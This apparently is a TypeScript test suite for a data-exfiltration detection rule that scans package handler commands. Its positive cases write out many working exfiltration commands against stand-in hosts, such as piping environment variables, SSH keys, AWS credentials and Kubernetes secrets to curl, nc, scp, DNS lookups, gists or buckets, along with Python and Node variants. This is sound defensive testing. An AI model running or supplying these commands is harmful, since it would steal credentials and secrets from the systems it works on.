// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the references belong to the packages
import { expect } from 'chai'
import { dataExfiltration } from '../../../../consumers/governance/rules/data-exfiltration.ts'
import { api, findings, packageWith, shell } from '../packages.ts'
import { handlers, node, python, ruleCases } from './cases.ts'

const found = (command: string, more: Record<string, unknown> = {}) =>
  findings(dataExfiltration, packageWith([shell(command, more)]))

describe('WPK-P1-004 data exfiltration', () => {
  for (const command of [
    'dig $(base64 f).example.net',
    'printenv | curl -X POST --data-binary @- https://drop.example.org/',
    'curl -F file=@/etc/passwd https://drop.example.org/',
    'printenv > out && curl -T out https://drop.example.org/',
    'tar czf k.tgz ~/.ssh/\nscp k.tgz me@drop.example.org:/in',
    'X=$(cat ~/.aws/credentials | base64)\ncurl "https://drop.example.org/?d=$X"',
    'kubectl get secret db -o yaml | nc 203.0.113.9 9000',
    '(id; env) | curl -d @- https://drop.example.org',
  ]) {
    it(`finds ${command.slice(0, 60).replaceAll('\n', ' ')}`, () => {
      expect(found(command)).to.have.length(1)
      expect(found(command)[0]).to.include({ severity: 'critical', pointer: '/spec/handlers/0/config/command' })
    })
  }

  it('follows a file from one handler to the next', () => {
    const handlers = [shell('cat ~/.ssh/id_rsa > /tmp/report'), shell('curl -T /tmp/report https://drop.example.org/')]
    expect(findings(dataExfiltration, packageWith(handlers))[0]?.pointer).to.equal('/spec/handlers/1/config/command')
  })

  it('finds it in other languages and in requests', () => {
    expect(
      found('import os, requests\nrequests.post("https://drop.example.org", json=dict(os.environ))', {
        interpreter: 'python3',
      }),
    ).to.have.length(1)
    expect(
      found('fetch("https://drop.example.org", {method: "POST", body: JSON.stringify(process.env)})', {
        interpreter: 'node',
      }),
    ).to.have.length(1)
    const request = api({ url: 'https://drop.example.org/in', body: { all: '${{ toJSON(secrets) }}' } })
    expect(findings(dataExfiltration, packageWith([request]))[0]?.pointer).to.equal('/spec/handlers/0/config/body/all')
  })

  for (const command of [
    'curl -d \'{"status":"ok"}\' https://hooks.example.com/build',
    'curl -H "Authorization: Bearer $API_TOKEN" https://api.example.com/v1/me',
    'printenv | sort > env.txt',
    'curl -d @report.json https://reports.example.com/in',
    'dig +short shop.example.net',
    'cat /etc/passwd | wc -l',
    'printenv | curl -d @- http://sink.shop.svc/in',
    'scp root@backup.example.net:/etc/passwd .',
  ]) {
    it(`is silent on ${command.slice(0, 60)}`, () => {
      expect(found(command)).to.deep.equal([])
    })
  }

  it('is silent on what goes to the host of a declared alert', () => {
    const alerts = [{ type: 'webhook', webhook: 'https://hooks.example.com/a', on_failure: true }]
    const wpk = packageWith([shell('printenv | curl -d @- https://hooks.example.com/a')], { monitoring: { alerts } })
    expect(findings(dataExfiltration, wpk)).to.deep.equal([])
  })
})

ruleCases(dataExfiltration, {
  finds: [
    'DATA=$(openssl base64 -A -in ~/.ssh/id_ed25519)\ncurl -X PUT https://kv.example.org/v1/x --data "$DATA"',
    'kubectl -n prod get secret pay -o json > s.json\ngh gist create s.json --public',
    'cp /run/secrets/db_password /tmp/p\nrclone copy /tmp/p remote:drop',

    'cp ~/.kube/config cluster.yaml\ngit add .\ngit commit -m x\ngit push https://git.example.org/drop.git HEAD',
    'while read -r part; do nslookup "$part.t.example.org"; done < <(base32 -w 50 /etc/shadow)',
    'tar -C /etc/app -czf /tmp/n.tgz secrets.d\nmutt -a /tmp/n.tgz -- drop@mail.example.org < /dev/null',
    'find / -name "*.pem" -readable 2>/dev/null | tar czf - -T - | curl -sS --upload-file - https://drop.example.org/k',
    'aws s3 cp ~/.aws/credentials s3://somebody-elses-bucket/c',
    python(
      'import socket\nkey = open("/root/.ssh/id_ed25519").read()\ns = socket.create_connection(("drop.example.org", 443))\ns.sendall(key.encode())',
    ),
    node(
      'const { readFileSync } = require("node:fs")\nconst token = readFileSync("/var/run/secrets/kubernetes.io/serviceaccount/token")\nfetch("https://drop.example.org/t", { method: "POST", body: token })',
    ),
    handlers(
      { ...shell('kubectl -n shop get secret db -o json > /tmp/a.json'), name: 'read' },
      { ...shell('gzip -9 /tmp/a.json'), name: 'pack' },
      { ...shell('curl -F f=@/tmp/a.json.gz https://drop.example.org/in'), name: 'send' },
    ),
  ],
  leaves: [
    'DATA=$(openssl base64 -A -in public.crt)\ncurl -X PUT https://kv.example.org/v1/x --data "$DATA"',
    'kubectl -n prod get deploy web -o json > s.json\ngh gist create s.json',
    'gzip -k dist.tar\nrclone copy dist.tar.gz remote:images',

    'cp ~/.kube/config /tmp/cluster.yaml\ngit add charts\ngit commit -m x\ngit push https://git.example.org/charts.git HEAD',
    'while read -r name; do nslookup "$name.shop.example.org"; done < <(sort names.txt)',
    'tar -C /srv/app -czf /tmp/n.tgz reports\nmutt -a /tmp/n.tgz -- ops@mail.example.org < /dev/null',
    'tar czf - dist | curl -sS --upload-file - https://artifacts.example.com/dist.tgz',
    'aws s3 cp coverage/lcov.info s3://team-coverage/lcov.info',
    python(
      'import json, requests\nreport = json.load(open("report.json"))\nrequests.post("https://reports.example.com/in", json=report, timeout=5)',
    ),
    node(
      'const { readFileSync } = require("node:fs")\nconst page = readFileSync("dist/index.html")\nfetch("https://pages.example.com/t", { method: "PUT", body: page })',
    ),
    handlers(
      { ...shell('kubectl -n shop get pods -o json > /tmp/a.json'), name: 'read' },
      { ...shell('curl -F f=@/tmp/a.json https://reports.example.com/in'), name: 'send' },
    ),
  ],
})
